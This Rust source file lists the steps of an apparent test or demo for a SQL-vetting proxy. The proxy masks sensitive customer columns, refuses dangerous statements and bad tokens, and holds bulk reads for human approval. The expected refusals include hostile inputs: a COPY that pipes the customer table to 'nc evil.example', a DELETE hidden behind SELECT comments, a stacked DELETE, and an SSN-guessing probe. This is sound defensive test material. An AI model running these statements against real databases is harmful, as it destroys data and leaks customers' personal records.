//! The steps, in the order in which they are told.

use super::{Step, Who};
use crate::issuer::Flaw;

const fn support(
    title: &'static str,
    target: &'static str,
    statement: &'static str,
    expected: &'static str,
) -> Step {
    Step { title, who: Who::Support, target, statement, expected }
}

const fn flawed(title: &'static str, flaw: Flaw) -> Step {
    Step {
        title,
        who: Who::Flawed(flaw),
        target: "shop",
        statement: "SELECT name FROM customers WHERE id = 7",
        expected: "401 identity/token",
    }
}

/// Looks like a read to whoever looks for words.
pub(super) const HIDDEN_DELETE: &str = "/* SELECT */ DELETE -- SELECT\nFROM /**/ orders";

pub(super) const STEPS: &[Step] = &[
    support(
        "A permitted read; tagged columns come back masked",
        "shop",
        "SELECT name, email, ssn, card FROM customers WHERE id = 7",
        "200 shown, [masked:email], [masked:ssn], last four",
    ),
    support(
        "Free text is looked into, whatever its column is called",
        "shop",
        "SELECT id, notes FROM customers WHERE notes LIKE '%SSN%' AND id < 100",
        "200 shown, text with [masked:ssn]",
    ),
    support(
        "A join",
        "shop",
        "SELECT c.name, o.item, o.amount FROM customers c JOIN orders o ON o.customer_id = c.id \
         WHERE c.id = 7",
        "200 shown, shown, shown",
    ),
    support(
        "A change that policy permits",
        "shop",
        "UPDATE orders SET status = 'shipped' WHERE id = 11",
        "200 changed 1",
    ),
    support("DROP TABLE is refused", "shop", "DROP TABLE customers", "422 vetting/defined"),
    support(
        "COPY is refused",
        "shop",
        "COPY customers TO PROGRAM 'nc evil.example 80'",
        "422 vetting/kind",
    ),
    support(
        "Two statements in one string are refused",
        "shop",
        "SELECT 1; DELETE FROM orders",
        "422 vetting/count",
    ),
    support(
        "A delete behind comments is still a delete",
        "shop",
        HIDDEN_DELETE,
        "403 policy/forbid",
    ),
    support(
        "A DO block is refused",
        "shop",
        "DO $$ BEGIN DELETE FROM orders; END $$",
        "422 vetting/kind",
    ),
    support(
        "A tagged column may not be cast",
        "shop",
        "SELECT ssn::bytea FROM customers WHERE id = 7",
        "422 vetting/tagged",
    ),
    support(
        "A tagged column may not be concatenated",
        "shop",
        "SELECT 'x' || ssn FROM customers WHERE id = 7",
        "422 vetting/tagged",
    ),
    support(
        "A tagged column may not be asked about",
        "shop",
        "SELECT id FROM customers WHERE ssn LIKE '123%'",
        "422 vetting/tagged",
    ),
    support(
        "A target out of the agent's reach is refused",
        "payroll",
        "SELECT employee, yearly FROM salaries",
        "403 policy/forbid",
    ),
    flawed("A forged token is refused", Flaw::ForeignKey),
    flawed("An expired token is refused", Flaw::Expired),
    flawed("A token for another service is refused", Flaw::WrongAudience),
    support(
        "A whole customer list waits for two people",
        "shop",
        "SELECT name, city FROM customers",
        "202 waits for {\"dba\":2}",
    ),
    support(
        "An analyst's aggregate is one of masked values",
        "insight",
        "SELECT min(ssn), count(DISTINCT card) FROM customers WHERE id <= 50",
        "200 [masked:ssn], shown",
    ),
    support(
        "A join on tokens, which stand for addresses",
        "insight",
        "SELECT count(*) FROM customers c JOIN customers d ON d.email = c.email WHERE c.id = 7",
        "200 shown",
    ),
    support(
        "A guess at a value is compared with its mask, and learns nothing",
        "insight",
        "SELECT id FROM customers WHERE ssn = '359-92-5439'",
        "200",
    ),
    support(
        "A mask is not taken for a value and written back",
        "shop",
        "UPDATE orders SET item = '[masked:ssn]' WHERE id = 11",
        "422 vetting/mark",
    ),
    support(
        "A read of more than is expected to be read waits for a person",
        "insight",
        "SELECT * FROM bulk",
        "202 waits for {\"dba\":1}",
    ),
];
